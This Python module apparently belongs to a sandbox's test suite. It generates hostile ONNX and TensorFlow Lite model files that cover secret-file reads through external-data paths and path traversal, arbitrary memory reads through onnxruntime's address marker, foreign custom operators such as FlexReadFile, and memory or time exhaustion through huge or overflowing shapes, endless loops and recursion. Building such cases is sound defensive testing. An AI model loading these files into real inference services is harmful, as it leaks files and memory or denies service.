"""Known attacks by ONNX and TensorFlow Lite files."""

from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
from sandbox import Sandbox

Attack = Callable[[Sandbox, Path], Path]
ATTACKS: dict[str, Attack] = {}
# LiteRT's numbers of operators.
CUSTOM, WHILE, FILL, MEAN, ADD = 32, 119, 94, 40, 0


def onnx_attack(make: Callable[[Sandbox], Any]) -> Callable[[Sandbox], Any]:
    """Put a function on the list that gives nodes, or a whole model, from `x` to `y`."""

    def write(box: Sandbox, good: Path) -> Path:  # noqa: ARG001  as the others
        import onnx

        made = make(box)
        made = onnx_model(made) if isinstance(made, list) else made
        path = box.root / "files" / "attack.onnx"
        path.write_bytes(made.SerializeToString() if isinstance(made, onnx.ModelProto) else made)
        return path

    ATTACKS[f"onnx: {make.__name__.replace('_', ' ').strip()}"] = write
    return make


def node(*arguments: Any, **attributes: Any) -> Any:
    """One operator."""
    from onnx import helper

    return helper.make_node(*arguments, **attributes)


def constant(name: str, values: Any, kind: Any = np.int64) -> Any:
    """A node that gives a constant."""
    from onnx import numpy_helper

    return node("Constant", [], [name], value=numpy_helper.from_array(np.asarray(values, kind), name))


def scored(*nodes: Any, add: str) -> list[Any]:
    """Nodes, and a classifier that adds what they make."""
    weights = constant("k", np.ones((784, 10)) / 784, np.float32)
    return [
        *nodes,
        weights,
        node("Flatten", ["x"], ["f"]),
        node("MatMul", ["f", "k"], ["s"]),
        node("ReduceMean", [add], ["m"], keepdims=0),
        node("Add", ["s", "m"], ["t"]),
        node("Softmax", ["t"], ["y"], axis=1),
    ]


def onnx_model(nodes: list[Any], functions: Any = (), domain: str = "") -> Any:
    """A model of these nodes."""
    from onnx import TensorProto, helper

    graph = helper.make_graph(
        nodes,
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["n", 1, 28, 28])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["n", 10])],
    )
    opsets = [helper.make_opsetid("", 17), *([helper.make_opsetid(domain, 1)] if domain else [])]
    return helper.make_model(graph, opset_imports=opsets, functions=list(functions), ir_version=8)


def external(name: str, location: Path | str, **more: str) -> Any:
    """A tensor whose numbers are in another file."""
    from onnx import TensorProto

    tensor = TensorProto(name=name, data_type=TensorProto.FLOAT, dims=[784, 10])
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in {"location": str(location), **more}.items():
        tensor.external_data.add(key=key, value=value)
    return tensor


@onnx_attack
def external_data(box: Sandbox) -> Any:
    """A whole path."""
    model = onnx_model(scored(add="x"))
    model.graph.initializer.append(external("secret", box.secret))
    return model


@onnx_attack
def external_data_by_climbing(box: Sandbox) -> Any:  # noqa: ARG001  as the others
    """A path from the model's folder."""
    model = onnx_model(scored(add="x"))
    model.graph.initializer.append(external("secret", "../secret/words.txt"))
    return model


@onnx_attack
def external_data_in_a_constant(box: Sandbox) -> Any:
    """Not an initializer but an attribute."""
    return scored(node("Constant", [], ["c"], value=external("c", box.secret)), add="c")


def branch(tensor: Any) -> Any:
    """A graph without nodes, whose output is an initializer."""
    from onnx import TensorProto, helper

    info = helper.make_tensor_value_info(tensor.name, TensorProto.FLOAT, [784, 10])
    return helper.make_graph([], "b", [], [info], [tensor])


def branching(then: Any, other: Any) -> list[Any]:
    """An If of two such graphs."""
    choice = node("If", ["yes"], ["c"], then_branch=then, else_branch=other)
    return scored(constant("yes", True, np.bool_), choice, add="c")


@onnx_attack
def external_data_in_a_branch_without_nodes(box: Sandbox) -> Any:
    """A look at nodes alone passes it over."""
    return branching(branch(external("a", box.secret)), branch(external("b", box.secret)))


@onnx_attack
def an_address_in_memory(box: Sandbox) -> Any:  # noqa: ARG001  as the others
    """How onnxruntime marks tensors of its own; whoever believes a file reads any memory."""
    tensors = [external(name, "*/_ORT_MEM_ADDR_/*", offset="4096", length="31360") for name in "ab"]
    return branching(*map(branch, tensors))


@onnx_attack
def external_data_as_a_functions_default(box: Sandbox) -> Any:
    """A value that stands where no node is."""
    from onnx import helper

    inside = node("Constant", [], ["o"])
    inside.attribute.add(name="value", ref_attr_name="v", type=4)
    default = helper.make_attribute("v", external("v", box.secret))
    made = helper.make_function(
        "mine", "F", [], ["o"], [inside], [helper.make_opsetid("", 17)], attribute_protos=[default]
    )
    return onnx_model(scored(node("F", [], ["c"], domain="mine"), add="c"), [made], "mine")


@onnx_attack
def an_operator_of_somebodys(box: Sandbox) -> Any:  # noqa: ARG001  as the others
    """Code from elsewhere."""
    return onnx_model(scored(node("Evil", ["x"], ["c"], domain="com.evil"), add="c"), (), "com.evil")


@onnx_attack
def an_operator_of_microsofts(box: Sandbox) -> Any:  # noqa: ARG001  as the others
    """It opens a compiled context from a path."""
    inside = node(
        "EPContext", ["x"], ["c"], domain="com.microsoft", ep_cache_context="../secret/words.txt", embed_mode=0
    )
    return onnx_model(scored(inside, add="c"), (), "com.microsoft")


@onnx_attack
def forty_gigabytes(box: Sandbox) -> Any:  # noqa: ARG001  as the others
    """A shape is a few bytes."""
    return scored(constant("n", [10**10]), node("ConstantOfShape", ["n"], ["c"]), add="c")


@onnx_attack
def four_gigabytes(box: Sandbox) -> Any:  # noqa: ARG001  as the others
    """The machine has them, and a model may not."""
    return scored(constant("n", [10**9]), node("ConstantOfShape", ["n"], ["c"]), add="c")


@onnx_attack
def a_shape_that_overflows(box: Sandbox) -> Any:  # noqa: ARG001  as the others
    """The product of the sides is small again, modulo 2**64."""
    return scored(constant("n", [2**33, 2**33]), node("ConstantOfShape", ["n"], ["c"]), add="c")


@onnx_attack
def tiles_of_an_image(box: Sandbox) -> Any:  # noqa: ARG001  as the others
    """Found out only with the images."""
    return scored(constant("n", [1, 1, 5000, 5000]), node("Tile", ["x", "n"], ["c"]), add="c")


@onnx_attack
def tiles_of_a_few_gigabytes(box: Sandbox) -> Any:  # noqa: ARG001  as the others
    """Of twenty images together."""
    return scored(constant("n", [1, 1, 300, 300]), node("Tile", ["x", "n"], ["c"]), add="c")


@onnx_attack
def a_border_of_gigabytes(box: Sandbox) -> Any:  # noqa: ARG001  as the others
    """Padding."""
    return scored(constant("n", [0, 0, 0, 0, 0, 0, 90_000, 90_000]), node("Pad", ["x", "n"], ["c"]), add="c")


def loop() -> list[Any]:
    """A loop without a count, whose condition is always true."""
    from onnx import TensorProto, helper

    infos = [("i", TensorProto.INT64, []), ("on", TensorProto.BOOL, []), ("v", TensorProto.FLOAT, ["n", 1, 28, 28])]
    inputs = [helper.make_tensor_value_info(*info) for info in infos]
    outputs = [helper.make_tensor_value_info("on2", *infos[1][1:]), helper.make_tensor_value_info("w", *infos[2][1:])]
    body = [node("Identity", ["on"], ["on2"]), node("Sin", ["v"], ["w"])]
    graph = helper.make_graph(body, "body", inputs, outputs)
    return scored(
        constant("yes", True, np.bool_),
        node("Loop", ["", "yes", "x"], ["c"], body=graph),
        add="c",
    )


@onnx_attack
def a_loop_without_end(box: Sandbox) -> Any:  # noqa: ARG001  as the others
    """Only time tells."""
    return loop()


@onnx_attack
def a_function_that_calls_itself(box: Sandbox) -> Any:  # noqa: ARG001  as the others
    """Whoever unfolds it never ends, or runs out of stack."""
    from onnx import helper

    opsets = [helper.make_opsetid("", 17), helper.make_opsetid("mine", 1)]
    made = helper.make_function("mine", "F", ["a"], ["o"], [node("F", ["a"], ["o"], domain="mine")], opsets)
    return onnx_model(scored(node("F", ["x"], ["c"], domain="mine"), add="c"), [made], "mine")


@onnx_attack
def functions_that_multiply(box: Sandbox) -> Any:  # noqa: ARG001  as the others
    """Each calls the one before ten times: a billion nodes in a few kilobytes."""
    from onnx import helper

    opsets = [helper.make_opsetid("", 17), helper.make_opsetid("mine", 1)]
    made = [helper.make_function("mine", "F0", ["a"], ["o"], [node("Sin", ["a"], ["o"])], opsets)]
    for depth in range(1, 10):
        names = ["a", *(f"t{k}" for k in range(9)), "o"]
        calls = [node(f"F{depth - 1}", [names[k]], [names[k + 1]], domain="mine") for k in range(10)]
        made.append(helper.make_function("mine", f"F{depth}", ["a"], ["o"], calls, opsets))
    return onnx_model(scored(node("F9", ["x"], ["c"], domain="mine"), add="c"), made, "mine")


@onnx_attack
def branches_in_branches(box: Sandbox) -> Any:  # noqa: ARG001  as the others
    """Deeper than protobuf goes."""
    import onnx

    field = lambda number, body: bytes([number << 3 | 2]) + varint(len(body)) + body  # noqa: E731
    graph = b""
    for _ in range(2_000):
        attribute = field(1, b"then_branch") + b"\xa0\x01\x05" + field(6, graph)
        graph = field(1, field(4, b"If") + field(5, attribute))
    assert onnx.ModelProto.FromString(field(7, b"")) is not None
    return field(7, graph)


def varint(number: int) -> bytes:
    """As protobuf writes it."""
    found = bytearray()
    while number > 127:
        found.append(number & 127 | 128)
        number >>= 7
    return bytes([*found, number])


def tflite_attack(make: Callable[[Any, Any], None]) -> Callable[[Any, Any], None]:
    """Put a function on the list that changes a good model, of one graph and three operators."""

    def write(box: Sandbox, good: Path) -> Path:  # noqa: ARG001  as the others
        import flatbuffers
        from ai_edge_litert import schema_py_generated as schema
        from fuzz_seeds import tflite_seed

        model = schema.ModelT.InitFromObj(schema.Model.GetRootAs(tflite_seed(), 0))
        make(schema, model)
        builder = flatbuffers.Builder(1024)
        builder.Finish(model.Pack(builder), b"TFL3")
        path = box.root / "files" / "attack.tflite"
        path.write_bytes(bytes(builder.Output()))
        return path

    ATTACKS[f"tflite: {make.__name__.replace('_', ' ').strip()}"] = write
    return make


def called(schema: Any, kind: int, custom: bytes | None = None) -> Any:
    """The code of an operator."""
    code = schema.OperatorCodeT()
    code.builtinCode = code.deprecatedBuiltinCode = kind
    code.customCode, code.version = custom, 1
    return code


@tflite_attack
def an_operator_of_somebodys_(schema: Any, model: Any) -> None:
    """Code from elsewhere."""
    model.operatorCodes[2] = called(schema, CUSTOM, b"Evil")


@tflite_attack
def an_operator_of_tensorflows(schema: Any, model: Any) -> None:
    """All of TensorFlow's could come in here."""
    model.operatorCodes[2] = called(schema, CUSTOM, b"FlexReadFile")


@tflite_attack
def numbers_in_another_file(schema: Any, model: Any) -> None:
    """By name."""
    group, part = schema.ExternalBufferGroupT(), schema.ExternalBufferT()
    group.name, part.id, part.group, part.offset, part.length = b"../secret/words.txt", 1, 0, 0, 700
    model.externalBufferGroups, model.externalBuffers = [group], [part]
    model.subgraphs[0].tensors[3].externalBuffer = 1


@tflite_attack
def images_of_a_trillion(schema: Any, model: Any) -> None:  # noqa: ARG001  as the others
    """The shape of a tensor that is made."""
    model.subgraphs[0].tensors[0].shape = [1, 10**6, 10**6, 1]


@tflite_attack
def a_batch_of_a_billion(schema: Any, model: Any) -> None:  # noqa: ARG001  as the others
    """Each of its rows would be predicted."""
    for tensor in model.subgraphs[0].tensors:
        if tensor.shape[0] == 1:
            tensor.shape = [10**9, *tensor.shape[1:]]


@tflite_attack
def a_product_that_overflows(schema: Any, model: Any) -> None:  # noqa: ARG001  as the others
    """In 32 bits it is small again."""
    model.subgraphs[0].tensors[0].shape = [1, 2**16, 2**16, 1]


def gigabytes(schema: Any, model: Any, side: int) -> None:
    """To the scores the mean of many ones is added."""
    graph = model.subgraphs[0]
    found = [([2], 2, np.int32([side, side])), ([], 0, np.float32([1])), ([1, 1], 0, None), ([2], 2, np.int32([0, 1]))]
    for shape, kind, content in (*found, ([], 0, None), ([1, 10], 0, None)):
        tensor, buffer = schema.TensorT(), schema.BufferT()
        if content is not None:
            buffer.data = np.frombuffer(content.tobytes(), np.uint8)
        tensor.shape, tensor.type, tensor.buffer, tensor.name = shape, kind, len(model.buffers), b"n"
        model.buffers.append(buffer)
        graph.tensors.append(tensor)
    for kind, inputs, output, options in (
        (FILL, [6, 7], 8, ("FillOptions", schema.FillOptionsT())),
        (MEAN, [8, 9], 10, ("ReducerOptions", schema.ReducerOptionsT())),
        (ADD, [5, 10], 11, ("AddOptions", schema.AddOptionsT())),
    ):
        operator = schema.OperatorT()
        operator.inputs, operator.outputs, operator.opcodeIndex = inputs, [output], len(model.operatorCodes)
        operator.builtinOptionsType = getattr(schema.BuiltinOptions, options[0])
        operator.builtinOptions = options[1]
        model.operatorCodes.append(called(schema, kind))
        graph.operators.append(operator)
    graph.outputs = [11]


@tflite_attack
def forty_gigabytes_(schema: Any, model: Any) -> None:
    """A shape is a few bytes."""
    gigabytes(schema, model, 100_000)


@tflite_attack
def four_gigabytes_(schema: Any, model: Any) -> None:
    """The machine has them, and a model may not."""
    gigabytes(schema, model, 32_000)


def looping(schema: Any, model: Any, body: int) -> None:
    """A While whose condition is a constant, in place of the softmax; its body is a graph that copies, or itself."""
    graph = model.subgraphs[0]
    yes, inside = schema.SubGraphT(), schema.SubGraphT()
    value = schema.TensorT()
    value.shape, value.type, value.buffer, value.name = [1, 10], 0, 0, b"v"
    true, truth = schema.TensorT(), schema.BufferT()
    truth.data = np.uint8([1])
    true.shape, true.type, true.buffer, true.name = [1], 6, len(model.buffers), b"yes"
    model.buffers.append(truth)
    yes.tensors, yes.inputs, yes.outputs, yes.operators = [value, true], [0], [1], []
    inside.tensors, inside.inputs, inside.outputs, inside.operators = [value], [0], [0], []
    model.subgraphs += [yes, inside]
    operator = graph.operators[2]
    options = schema.WhileOptionsT()
    options.condSubgraphIndex, options.bodySubgraphIndex = 1, body
    operator.builtinOptionsType, operator.builtinOptions = schema.BuiltinOptions.WhileOptions, options
    model.operatorCodes[2] = called(schema, WHILE)


@tflite_attack
def a_loop_without_end_(schema: Any, model: Any) -> None:
    """Only time tells."""
    looping(schema, model, 2)


@tflite_attack
def a_loop_in_itself(schema: Any, model: Any) -> None:
    """Its body is the graph that it stands in."""
    looping(schema, model, 0)
